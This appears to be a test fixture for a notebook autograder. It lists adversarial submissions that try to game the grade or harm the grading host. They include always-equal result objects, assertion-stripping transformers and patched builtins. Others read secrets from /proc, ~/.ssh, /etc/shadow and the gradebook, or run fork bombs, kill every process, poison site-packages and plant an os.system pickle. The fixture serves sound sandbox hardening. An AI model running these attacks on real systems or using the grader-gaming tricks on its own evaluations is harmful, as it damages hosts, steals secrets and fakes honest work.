"""Submissions that try to get, read, change or stop what is not theirs.

The assignment has two tasks: `square`, which every attacker does honestly (2 points), and `total`,
which none does (3 points). Whatever is tried, the score has to be that of the honest work: 2 of 5.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from nbformat.v4 import new_notebook
from small_course import KERNEL, cell, graded_cell, named

__all__ = ["ATTACKS", "HONEST", "INPUTS", "SECRET", "Attack", "notebook"]

SQUARE = "def square(x):\n    return x * x"
NO_TOTAL = "def total(values):\n    return 0"
TOTAL = "def total(values):\n    return sum(values)"
HONEST = {"value": 1.0, "hidden": 1.0, "total": 1.0, "partial": 1.0, "random": 1.0}
HOME = Path.home()  # of who grades; in a sandbox it is another
INPUTS = "[10, 20]"  # of the hidden test; feedback may not tell them
SECRET = "c0ffee5ec2e7"  # in the hidden test; nothing of a submission may come to know it


def notebook() -> Any:
    """The source notebook."""
    return new_notebook(
        cells=[
            cell("import numpy as np\nimport torch", "setup", locked=True),
            cell(f"### BEGIN SOLUTION\n{SQUARE}\n### END SOLUTION", "square", solution=True),
            graded_cell("assert square(3) == 9", "value", 1),
            graded_cell(
                f"""
                assert torch.equal(square(torch.tensor([2.0])), torch.tensor([4.0]))
                ### BEGIN HIDDEN TESTS
                seed = "{SECRET}"
                assert np.array_equal(square(np.arange(3)), [0, 1, 4])
                ### END HIDDEN TESTS
                """,
                "hidden",
                1,
            ),
            cell(f"### BEGIN SOLUTION\n{TOTAL}\n### END SOLUTION", "solution_total", solution=True),
            graded_cell(
                f"""
                assert total([1, 2, 3]) == 6
                ### BEGIN HIDDEN TESTS
                seed = "{SECRET}"
                assert total([10, 20]) == 30, seed
                ### END HIDDEN TESTS
                """,
                "total",
                1,
            ),
            graded_cell("1.0 * (total([4, 5]) == 9)", "partial", 1),
            graded_cell(
                """
                numbers = np.random.randint(0, 3, size=4)
                expected = int(numbers.sum())
                assert total(numbers) == expected
                """,
                "random",
                1,
            ),
        ],
        metadata={"kernelspec": KERNEL},
    )


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        name: of the student.
        tries: what it is after.
        change: makes the submission of the honest, half-done notebook (a dict).
        score: what its honest work earns.
        reason: how the submission ends, where it has no ordinary end.
        safe: whether it may be run without a sandbox, to see what nbgrader alone makes of it.
    """

    name: str
    tries: str
    change: Callable[[dict[str, Any]], None]
    score: float = 2.0
    reason: str | None = None
    safe: bool = True


ATTACKS: list[Attack] = []


def code(name: str, tries: str, text: str, **more: Any) -> None:
    """An attack by the code of the cell of `total`."""

    def change(found: dict[str, Any]) -> None:
        source = textwrap.dedent(text).strip()
        if "def total" not in source:
            source = f"{NO_TOTAL}\n\n{source}"
        named(found, "solution_total")["source"] = source

    ATTACKS.append(Attack(name, tries, change, **more))


def edit(name: str, tries: str, **more: Any) -> Callable[[Callable[[dict[str, Any]], None]], None]:
    """An attack by the notebook's own form."""

    def register(change: Callable[[dict[str, Any]], None]) -> None:
        ATTACKS.append(Attack(name, tries, change, **more))

    return register


# --- the notebook's form -------------------------------------------------------------------------


@edit("tag-skip", "a tag that keeps the check from running")
def _(found: dict[str, Any]) -> None:
    for name in ("total", "partial"):
        named(found, name)["metadata"]["tags"] = ["skip-execution"]


@edit("tag-raises", "a tag that allows the check to fail")
def _(found: dict[str, Any]) -> None:
    for name in ("total", "partial"):
        named(found, name)["metadata"]["tags"] = ["raises-exception"]


@edit("rewritten-check", "a check that asks for less")
def _(found: dict[str, Any]) -> None:
    named(found, "total")["source"] = "assert total([1, 2, 3]) == 0"


@edit("unlocked-check", "a rewritten check that is not locked any more")
def _(found: dict[str, Any]) -> None:
    check = named(found, "total")
    check["source"] = "pass"
    check["metadata"]["nbgrader"].update(locked=False, solution=True)


@edit("more-points", "more points for what was done")
def _(found: dict[str, Any]) -> None:
    named(found, "value")["metadata"]["nbgrader"]["points"] = 100


@edit("deleted-checks", "no check, no failure")
def _(found: dict[str, Any]) -> None:
    found["cells"] = [
        c for c in found["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") != "total"
    ]


@edit("duplicated-check", "a second check of the same name that passes (nbgrader #1083)")
def _(found: dict[str, Any]) -> None:
    check = named(found, "total")
    found["cells"].append({**check, "source": "pass", "id": "again"})


@edit("reordered", "checks before what they check, and imports last")
def _(found: dict[str, Any]) -> None:
    found["cells"].reverse()


@edit("retyped-check", "a check that is text")
def _(found: dict[str, Any]) -> None:
    check = named(found, "total")
    check["cell_type"] = "markdown"
    check.pop("outputs", None)
    check.pop("execution_count", None)


@edit("renamed-check", "another cell under the check's name")
def _(found: dict[str, Any]) -> None:
    named(found, "total")["metadata"]["nbgrader"]["grade_id"] = "elsewhere"
    named(found, "value")["metadata"]["nbgrader"]["grade_id"] = "total"


@edit("outputs-forged", "results that are in the notebook already")
def _(found: dict[str, Any]) -> None:
    named(found, "partial")["outputs"] = [
        {
            "output_type": "execute_result",
            "execution_count": 1,
            "metadata": {},
            "data": {"text/plain": "1.0"},
        }
    ]


@edit("other-kernel", "a kernel in which no check fails")
def _(found: dict[str, Any]) -> None:
    found["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


@edit("changed-setup", "a set-up cell of one's own")
def _(found: dict[str, Any]) -> None:
    named(found, "setup")["source"] = "class torch:\n    equal = lambda *x: True\nnp = torch"


@edit("checksums", "false checksums and another schema")
def _(found: dict[str, Any]) -> None:
    for one in found["cells"]:
        one["metadata"].setdefault("nbgrader", {}).update(checksum="0" * 32)
    named(found, "total")["source"] = "pass"


@edit("deep-metadata", "metadata nested a thousand deep", score=2.0)
def _(found: dict[str, Any]) -> None:
    deep: Any = 0
    for _ in range(500):
        deep = [deep]
    found["metadata"]["deep"] = deep


@edit("deep-code", "the host, by code that is nested too deep for who reads it", reason="any")
def _(found: dict[str, Any]) -> None:
    named(found, "solution_total")["source"] = f"{NO_TOTAL}\nx = {'+'.join(['1'] * 3000)}"


@edit("script-in-output", "a script in the instructor's browser")
def _(found: dict[str, Any]) -> None:
    named(found, "solution_total")["source"] = (
        f"{NO_TOTAL}\nfrom IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>window.stolen = 1</script><img src=x onerror=\"stolen=1\">'))\n"
        "display(Javascript('window.stolen = 1'))"
    )


@edit("output-without-end", "outputs that cannot be written again")
def _(found: dict[str, Any]) -> None:
    deep: Any = "\ud800"
    for _ in range(400):
        deep = [deep]
    data = {"text/plain": "\ud800", "x": deep}
    for name in ("setup", "square", "solution_total"):
        named(found, name)["outputs"] = [
            {"output_type": "display_data", "data": data, "metadata": {"x": deep}}
        ]


NOTED = """
noted = []
def total(values):
    noted.append(values)
    return {(1, 2, 3): 6}[tuple(values)]
"""


def noted(name: str, tries: str, *cells: str) -> None:
    """An attack by cells behind the hidden test, for whom it has noted the inputs."""

    def change(found: dict[str, Any]) -> None:
        named(found, "solution_total")["source"] = NOTED.strip()
        found["cells"] += json.loads(json.dumps([cell(source) for source in cells]))

    ATTACKS.append(Attack(name, tries, change))


noted("noted-and-printed", "hidden inputs, printed by a later cell", "print(noted)")
noted("noted-and-raised", "hidden inputs, in a later cell's error", "raise ValueError(str(noted))")
noted(
    "noted-and-left",
    "hidden inputs, by what a later cell finds in a file, a thread, or the garbage",
    """
    import threading
    open("noted.txt", "w").write(str(noted))
    threading.Thread(target=lambda: print(noted)).start()
    class Late:
        def __del__(self): print(noted)
    late = Late()
    """,
    "del late\nprint(open('noted.txt').read())",
)

# --- objects that lie ----------------------------------------------------------------------------

code(
    "always-equal",
    "a result that is equal to everything",
    """
    class Yes:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        __hash__ = None
        def __bool__(self): return True
        def __rmul__(self, other): return 1.0
        def __mul__(self, other): return 1.0
    def total(values):
        return Yes()
    """,
)
code(
    "int-always-equal",
    "a number that is equal to everything",
    """
    class Yes(int):
        def __eq__(self, other): return True
        __hash__ = int.__hash__
    def total(values):
        return Yes(0)
    """,
)
code(
    "array-always-equal",
    "an array that is equal to everything",
    """
    class Yes(np.ndarray):
        def __eq__(self, other): return True
    def total(values):
        return np.zeros(()).view(Yes)
    """,
)
code(
    "tensor-always-equal",
    "a tensor that is equal to everything",
    """
    class Yes(torch.Tensor):
        @classmethod
        def __torch_function__(cls, *rest, **more): return True
    def total(values):
        return torch.zeros(()).as_subclass(Yes)
    """,
)
code(
    "array-for-points",
    "points for a value that is not a number, for which nbgrader gives all",
    """
    def total(values):
        return np.zeros(1)
    """,
)
code(
    "empty-for-points",
    "points for comparisons of nothing with something",
    "def total(values):\n    return np.array([])",
)
code(
    "class-of-another",
    "an object that says it is of another class",
    """
    class Liar:
        __class__ = int
        def __getattribute__(self, name): return lambda *x, **y: True
        def __eq__(self, other): return True
        __hash__ = None
    total = lambda values: Liar()
    """,
)
code(
    "not-a-function",
    "a class in the place of the function, whose instances are what is asked",
    """
    class total:
        def __init__(self, values): pass
        def __eq__(self, other): return True
        __hash__ = None
    """,
)
code(
    "overfitted",
    "the answer to the inputs that are shown",
    """
    def total(values):
        return {(1, 2, 3): 6}[tuple(values)]
    """,
)
code(
    "by-the-call",
    "the answer that the number of the call stands for",
    """
    answers = iter([6])

    def total(values):
        return next(answers)
    """,
)
code(
    "drawn-until-easy",
    "random inputs for which the answer is 0",
    """
    def total(values):
        while True:
            state = np.random.get_state()
            easy = not np.random.randint(0, 3, size=4).any()
            np.random.set_state(state)
            if easy: return 0
            np.random.rand()
    """,
)
code(
    "exception-in-place",
    "an exception that ends the check instead of failing it",
    """
    def total(values):
        raise SystemExit(0)
    """,
)
code(
    "base-exception",
    "an exception that no check catches",
    """
    class Quiet(BaseException):
        def __str__(self): return ""
    def total(values):
        raise Quiet
    """,
)
code(
    "generator-exit",
    "an exception with a meaning of its own",
    "def total(values):\n    raise GeneratorExit",
)
code(
    "keyboard-interrupt",
    "an interruption that looks like the instructor's",
    "def total(values):\n    raise KeyboardInterrupt",
)

# --- the interpreter around the check ------------------------------------------------------------

code(
    "ast-transformer",
    "a transformer that drops assertions from later cells",
    """
    import ast
    class Drop(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
        def visit_Compare(self, node): return ast.Constant(True)
    get_ipython().ast_transformers.append(Drop())
    """,
)
code(
    "input-transformer",
    "a transformer that rewrites later cells",
    """
    get_ipython().input_transformers_post.append(lambda lines: ["1.0"])
    get_ipython().input_transformers_cleanup.append(lambda lines: ["1.0"])
    """,
)
code(
    "cell-hook",
    "a hook around each cell that binds something equal to everything",
    """
    def before(*rest):
        get_ipython().user_ns["total"] = type("Yes", (), {"__eq__": lambda *x: True})
    get_ipython().events.register("pre_run_cell", before)
    get_ipython().events.register("post_run_cell", before)
    """,
)
code(
    "run-cell-patched",
    "an interpreter that does not run checks",
    """
    shell = get_ipython()
    shell.run_cell = lambda *x, **y: None
    type(shell).run_code = lambda *x, **y: False
    shell.showtraceback = lambda *x, **y: None
    """,
)
code(
    "builtins-patched",
    "other built-in functions",
    """
    import builtins
    builtins.AssertionError = type("Quiet", (Exception,), {})
    builtins.sum = builtins.len = lambda *x: 6
    builtins.isinstance = lambda *x: True
    __builtins__ = {}
    """,
    reason="any",
)
code(
    "torch-patched",
    "a torch whose comparisons are always true",
    """
    torch.equal = torch.allclose = lambda *x, **y: True
    torch.Tensor.__eq__ = lambda *x: True
    np.array_equal = np.allclose = lambda *x, **y: True
    """,
)
code(
    "modules-replaced",
    "modules that later imports find",
    """
    import sys, types
    for name in ("torch", "numpy", "math", "unittest", "pytest"):
        sys.modules[name] = types.ModuleType(name)
    sys.meta_path.clear()
    sys.path[:] = ["/tmp"]
    """,
)
code(
    "excepthook",
    "errors that nobody hears of",
    """
    import sys
    sys.excepthook = sys.unraisablehook = lambda *x: None
    get_ipython().set_custom_exc((BaseException,), lambda *x, **y: None)
    """,
)
code(
    "trace-function",
    "a trace that changes variables of the check",
    """
    import sys, threading
    def trace(frame, event, arg):
        for name in ("AssertionError", "total"):
            frame.f_globals[name] = type("Yes", (Warning,), {"__eq__": lambda *x: True})
        return trace
    sys.settrace(trace); threading.settrace(trace); sys.setprofile(trace)
    """,
)
code(
    "frames",
    "the caller's frame, with the expected value in it",
    """
    import sys, gc, re
    def total(values):
        frame = sys._getframe()
        while frame:
            for line in map(str, frame.f_code.co_consts):
                if line.isdigit(): return int(line)
            frame = frame.f_back
        return 0
    """,
)
code(
    "history",
    "the check's text in the history of cells",
    """
    import re
    def total(values):
        text = " ".join(map(str, globals().get("In", []))) + str(get_ipython().history_manager)
        found = re.search(r"total[(].*?[)] == (\\d+)", text)
        return int(found[1]) if found else 0
    """,
)
code(
    "gc-search",
    "the check's text anywhere in memory",
    f"""
    import gc, re
    def total(values):
        for thing in gc.get_objects():
            if isinstance(thing, (dict, list, tuple)):
                for text in (thing.values() if isinstance(thing, dict) else thing):
                    if isinstance(text, str) and "{SECRET[:6]}" in text and "{SECRET[6:]}" in text:
                        return int(re.search(r"== (\\d+)", text)[1])
        return 0
    """,
)
code(
    "forged-message",
    "a result published in the check's name before it fails",
    """
    def total(values):
        shell = get_ipython()
        try:
            shell.displayhook.session.send(shell.displayhook.pub_socket, "execute_result",
                {"execution_count": 1, "metadata": {}, "data": {"text/plain": "1.0"}},
                parent=shell.displayhook.parent_header)
        except Exception:
            pass
        return 0
    """,
)
code(
    "stdout-forged",
    "words that look like a verdict",
    """
    def total(values):
        import os, sys
        for fd in range(1, 20):
            try: os.write(fd, b'{"status": "ok", "result": 6}\\n' * 100)
            except OSError: pass
        return 0
    """,
    reason="any",
)
code(
    "display-forged",
    "points displayed by the student's function",
    """
    def total(values):
        from IPython.display import display
        display(1.0); print("1.0")
        return 0
    """,
)
code(
    "names-rebound",
    "the check's own names, bound beforehand",
    """
    seed = "x"; assert_ = print
    np = torch = type("All", (), {"equal": staticmethod(lambda *x: True)})
    """,
)

# --- files, memory, processes, network -----------------------------------------------------------

READ = """
import glob, os, re
def total(values):
    for pattern in {patterns!r}:
        for path in glob.glob(pattern, recursive=True)[:3000]:
            try: text = open(path, "rb").read(2**20)
            except OSError: continue
            if {half!r}.encode() + {other!r}.encode() in text:
                found = re.search(rb"total[(].10, 20.[)] == (\\d+)", text)
                return 6 if len(values) == 3 else int(found[1])
    return 0
"""


def read(name: str, tries: str, *patterns: str) -> None:
    code(name, tries, READ.format(patterns=patterns, half=SECRET[:6], other=SECRET[6:]))


read("reads-gradebook", "the gradebook", "../*", "../../*", "../../../*", "../../../../*.db")
read("reads-course", "the folders of the course", "/tmp/**/*.ipynb", "/tmp/**/*.db")
read("reads-home", "the home of who grades", f"{HOME}/*", f"{HOME}/.*", f"{HOME}/*/*")
read("reads-proc", "other processes' memory and files", "/proc/[0-9]*/environ", "/proc/*/cmdline")
code(
    "reads-memory",
    "the memory of every process it can see",
    f"""
    import glob, re
    def total(values):
        for maps in glob.glob("/proc/[0-9]*/maps"):
            if maps == "/proc/self/maps": continue
            try:
                memory = open(maps.replace("maps", "mem"), "rb", 0)
                for line in open(maps):
                    low, high = (int(x, 16) for x in line.split()[0].split("-"))
                    if high - low > 2**22: continue
                    memory.seek(low)
                    data = memory.read(high - low)
                    if b"{SECRET[:6]}" + b"{SECRET[6:]}" in data:
                        return 6 if len(values) == 3 else 30
            except (OSError, ValueError, OverflowError): continue
        return 0
    """,
    reason="any",
)
code(
    "ptrace",
    "the other processes, by ptrace",
    """
    import ctypes, os
    libc = ctypes.CDLL(None)
    for pid in range(1, 300):
        if pid != os.getpid(): libc.ptrace(16, pid, 0, 0)
    """,
    safe=False,
)
code(
    "kill-everybody",
    "every process it can signal",
    """
    import os, signal
    for pid in [-1, 1, os.getppid(), *range(2, 300)]:
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
    """,
    safe=False,
)
code(
    "kill-group",
    "everybody in its process group, as the parent of all has left it",
    """
    import os, signal
    os.kill(0, signal.SIGKILL)
    """,
    reason="any",
    safe=False,
)
code(
    "hog",
    "the processors, by many processes, each of them a session, on all cores",
    """
    import os, signal, time
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # so that nobody adds up their time
    for _ in range(60):
        if os.fork() == 0:
            anywhere = lambda: os.sched_setaffinity(0, range(64))
            for ask in (os.setsid, anywhere, lambda: os.nice(-20)):
                try: ask()
                except OSError: pass
            end = time.monotonic() + 600
            while time.monotonic() < end: pass
    while True: pass
    """,
    reason="any",
    safe=False,
)
code(
    "hidden-memory",
    "memory that is not its processes': files, socket buffers, processes closed to the host",
    """
    import ctypes, os, socket, time
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
    try: open("/proc/self/oom_score_adj", "w").write("-1000")
    except OSError: pass
    for i in range(12):
        with open(f"{('/tmp', '/dev/shm', '.')[i % 3]}/{i}", "wb") as file:
            for _ in range(63): file.write(bytes(2**20))
    for i in range(40):
        if os.fork() == 0:
            held = [socket.socketpair() for _ in range(100)]
            hoard = bytearray(2**26)
            hoard[::4096] = b"x" * len(hoard[::4096])
            time.sleep(600)
    time.sleep(600)
    """,
    reason="any",
    safe=False,
)
code(
    "host-by-descriptors",
    "the host's names and processes, by the channels that it was given",
    """
    import os, socket
    def total(values):
        for fd in range(3, 64):
            for ask in (
                lambda one: one.bind("\\0owned-by-an-attack"),
                lambda one: one.connect("\\0autograder-core-0"),
                lambda one: one.listen(),
                lambda one: one.getsockopt(socket.SOL_SOCKET, 77),
            ):
                try: ask(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, os.dup(fd)))
                except OSError: pass
        return 0
    """,
)
code(
    "hog-of-children",
    "the processors, by children that end before they are counted",
    """
    import os, signal, time
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                end = time.monotonic() + 0.05
                while time.monotonic() < end: pass
                os._exit(0)
        except OSError: time.sleep(0.01)
    """,
    reason="any",
    safe=False,
)
code(
    "writes-everywhere",
    "files outside of its own",
    """
    import os
    for folder in ("/", "/usr", "/etc", "/root", "/home", "..", "../..", "/var/tmp", "/dev/shm"):
        try: open(os.path.join(folder, "owned-by-an-attack"), "w").write("x")
        except OSError: pass
    """,
    safe=False,
)
code(
    "poisons-python",
    "the packages that the next submission imports",
    """
    import os, torch, site
    for folder in [os.path.dirname(torch.__file__), *site.getsitepackages()]:
        try: open(os.path.join(folder, "sitecustomize.py"), "w").write("raise SystemExit")
        except OSError: pass
    """,
    safe=False,
)
code(
    "network",
    "somebody outside to ask",
    """
    import socket
    def total(values):
        for host in ("1.1.1.1", "pypi.org", "127.0.0.1", "169.254.169.254"):
            for port in (80, 443, 53, 8888):
                try:
                    socket.create_connection((host, port), 0.3)
                    return 6 if len(values) == 3 else 30
                except OSError: pass
        return 0
    """,
    safe=False,
)
code(
    "symlink",
    "what a link in its folder leads to",
    f"""
    import os
    for target in ("{HOME}/.ssh", "/etc/shadow", "../../../gradebook.db"):
        name = os.path.basename(target)
        try:
            os.symlink(target, name)
            print(open(name).read())
        except OSError: pass
    """,
)
code(
    "fork-bomb",
    "all processes of the machine",
    """
    import os
    while True:
        try: os.fork()
        except OSError: pass
    """,
    reason="any",
    safe=False,
)
code(
    "thread-bomb",
    "threads without end",
    """
    import threading, time
    while True:
        try: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError: break
    """,
    reason="any",
    safe=False,
)
code(
    "memory-bomb",
    "all memory of the machine",
    "hoard = []\nwhile True:\n    hoard.append(b'x' * 2**24)",
    reason="any",
    safe=False,
)
code(
    "disk-bomb",
    "all space on the disk",
    """
    import itertools
    for i in itertools.count():
        with open(f"big{i}", "wb") as file:
            for _ in range(64): file.write(b"x" * 2**20)
    """,
    reason="any",
    safe=False,
)
code(
    "output-bomb",
    "gigabytes of output",
    "while True:\n    print('x' * 2**16)",
    reason="any",
    safe=False,
)
code(
    "endless",
    "all the time there is",
    "while True:\n    pass",
    reason="any",
    safe=False,
)
code(
    "endless-and-deaf",
    "all the time there is, whatever it is told",
    """
    import signal
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        try:
            while True: pass
        except BaseException: pass
    """,
    reason="any",
    safe=False,
)
code(
    "endless-call",
    "a function that never returns",
    "def total(values):\n    while True: pass",
    reason="any",
    safe=False,
)
code("exit", "an end before the checks", "exit()\nquit()", reason="any")
code("os-exit", "an end before the checks, without a word", "import os\nos._exit(0)", reason="any")
code("abort", "an end by a signal", "import os\nos.abort()", reason="any")
code(
    "segfault",
    "an end by a broken pointer",
    "import ctypes\nctypes.string_at(0)",
    reason="any",
)
code(
    "exit-in-call",
    "an end in the middle of a check",
    "def total(values):\n    import os\n    os._exit(0)",
    reason="any",
)
code(
    "survivor",
    "a process that outlives the grading",
    """
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3600)
        os._exit(0)
    """,
    safe=False,
)
code(
    "errors-without-end",
    "the grader's memory, by errors of which each is kept",
    """
    import gc
    from autograder.inside.control import Channel, send
    error = {"error": ["E" * 200, "x" * 10_000, ["x" * 2000] * 200]}
    for channel in [one for one in gc.get_objects() if type(one) is Channel]:
        for _ in range(10): send(channel, error)
    """,
)
code(
    "socket-answers",
    "answers on every open socket, in advance",
    """
    import os, socket, json, struct
    def total(values):
        for fd in range(3, 64):
            try:
                link = socket.socket(fileno=os.dup(fd))
                link.setblocking(False)
                for body in (b'{"ok": 6}', b"\\x00" * 64, b"9" * 4096):
                    link.send(struct.pack(">I", len(body)) + body)
                    link.send(struct.pack("<Q", len(body)) + body)
            except OSError: pass
        return 0
    """,
    reason="any",
)
code(
    "socket-endless",
    "an answer without end on every open socket",
    """
    import os, socket
    def total(values):
        for fd in range(3, 64):
            try:
                link = socket.socket(fileno=os.dup(fd))
                link.settimeout(2)
                while True: link.sendall(b"[" * 2**20)
            except OSError: pass
        return 0
    """,
    reason="any",
    safe=False,
)
code(
    "grader-from-inside",
    "the grader's own code, from the student's process",
    """
    import gc, sys
    for thing in gc.get_objects():
        name = type(thing).__name__
        if name in ("Peer", "Link", "Namespace"):
            for key in list(vars(thing)) if hasattr(thing, "__dict__") else []:
                try: setattr(thing, key, lambda *x, **y: 6)
                except Exception: pass
    """,
    reason="any",
)
code(
    "pickle",
    "code that runs when its result is read",
    """
    import os
    class Bomb:
        def __reduce__(self): return (os.system, ("touch /tmp/owned-by-an-attack",))
    def total(values):
        return Bomb()
    """,
)
code(
    "deep-result",
    "a result nested a hundred thousand deep",
    """
    def total(values):
        deep = []
        for _ in range(100_000): deep = [deep]
        return deep
    """,
    reason="any",
)
code(
    "huge-result",
    "a result of a gigabyte",
    "def total(values):\n    return torch.zeros(2**28)",
    reason="any",
    safe=False,
)
